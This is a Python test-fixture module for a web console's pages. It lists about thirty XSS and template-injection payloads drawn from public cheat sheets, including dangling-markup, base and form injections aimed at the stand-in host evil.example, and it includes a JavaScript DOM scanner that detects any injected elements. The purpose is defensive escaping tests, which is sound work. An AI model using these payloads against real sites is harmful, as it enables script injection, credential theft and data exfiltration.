"""Hostile text for the console's pages: what a requester, a channel or an approver could put
into a field the console renders. Drawn from public corpora and the bug classes they document:
the PortSwigger XSS cheat sheet and the OWASP XSS filter evasion cheat sheet (tags, event
handlers, `javascript:` URLs, quote breakouts), the "ultimate XSS polyglot" (0xsobky), the
DOMPurify bypass history (mutation XSS through namespace confusion and `<noscript>`, which
matters here: console.js re-parses each page with DOMParser), dangling markup and `<base>` /
`<meta refresh>` / `<form>` injections (which a CSP does not stop), Jinja2 template injection
and double-unescaping.

Every payload that would inject an element carries the attribute `data-xss`, so a page that
failed to escape it has `[data-xss]` in its DOM; `alert(N)` names the payload whose dialog
fired. None holds a control character (the chat's notice escapes those, so they would not be
shown verbatim) and none is longer than a notice shows in full."""

from __future__ import annotations

PAYLOADS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2) data-xss>",
    "<svg/onload=alert(3) data-xss>",
    "<svg><script data-xss>alert(4)</script></svg>",
    '"><img src=x onerror=alert(5) data-xss>',
    "'><img src=x onerror=alert(6) data-xss>",
    '" autofocus onfocus=alert(7) data-xss="',
    "' autofocus onfocus=alert(8) data-xss='",
    "javascript:alert(9)",
    "</textarea><img src=x onerror=alert(10) data-xss>",
    "</title></pre><img src=x onerror=alert(11) data-xss>",
    "</option></select><img src=x onerror=alert(12) data-xss>",
    "<details open ontoggle=alert(13) data-xss>",
    '<iframe srcdoc="<script>alert(14)</script>" data-xss></iframe>',
    '<a href="javascript:alert(15)" data-xss>click</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(16) data-xss>",
    '<noscript><p title="</noscript><img src=x onerror=alert(17) data-xss>">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(18)" data-xss>',
    '<base href="//evil.example/" data-xss>',
    '<form action="//evil.example/" data-xss><button>go</button></form>',
    "<img data-xss src='//evil.example/?",  # dangling markup: swallows the page up to a '
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(22) )//%0D%0A%0d%0a//</stYle/"
    "</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(22)//>\\x3e",
    "{{ 7*7 }}{% raw %}",  # template injection: shown as typed, never 49
    "&lt;img src=x onerror=alert(24) data-xss&gt;",  # shown as typed, not unescaped
    "<style>@import '//evil.example/x.css';</style>",
    '<object data="javascript:alert(26)" data-xss></object><embed src=x data-xss>',
    "<input autofocus onfocus=alert(27) data-xss>",
    "<body onload=alert(28)>",  # the parser would merge it into the real <body>
    "--><img src=x onerror=alert(29) data-xss><!--",
    "]]><img src=x onerror=alert(30) data-xss>",
    "\uff1cscript\uff1ealert(31)\uff1c/script\uff1e",  # fullwidth: harmful only if normalized
    '<main id="live" data-xss>clobbered</main>',  # console.js looks up #live
)
"""Each is shown as typed (after whitespace is collapsed) wherever the console shows it."""

INJECTED = """() => {
  // What a page holds that its templates never put there: elements an escaped payload
  // cannot make, event handler attributes, script URLs, scripts not from /console/static/.
  const found = [];
  for (const el of document.querySelectorAll("*")) {
    if (el.hasAttribute("data-xss")) { found.push("[data-xss] " + el.tagName); }
    for (const attr of el.attributes) {
      const value = attr.value.replace(/[\\s\\u0000-\\u001f]/g, "").toLowerCase();
      if (attr.name.startsWith("on")) { found.push(el.tagName + "[" + attr.name + "]"); }
      if (/^(javascript|vbscript|data:text\\/html)/.test(value) && attr.name !== "value") {
        found.push(el.tagName + "[" + attr.name + "=" + value.slice(0, 30) + "]");
      }
    }
  }
  for (const s of document.scripts) {
    if (!s.src || new URL(s.src).pathname.indexOf("/console/static/") !== 0) {
      found.push("script " + (s.src || s.textContent.slice(0, 30)));
    }
  }
  for (const tag of ["iframe", "frame", "object", "embed", "base", "math", "noscript"]) {
    if (document.querySelector(tag)) { found.push(tag); }
  }
  const refresh = document.querySelectorAll("meta[http-equiv]");
  const welcome = location.pathname === "/console/welcome";
  if (refresh.length > (welcome ? 1 : 0)) { found.push("meta[http-equiv]"); }
  if (document.querySelectorAll("#live").length > 1) { found.push("#live clobbered"); }
  return found;
}"""
"""A script for `page.evaluate`: what the page holds that no template put there."""
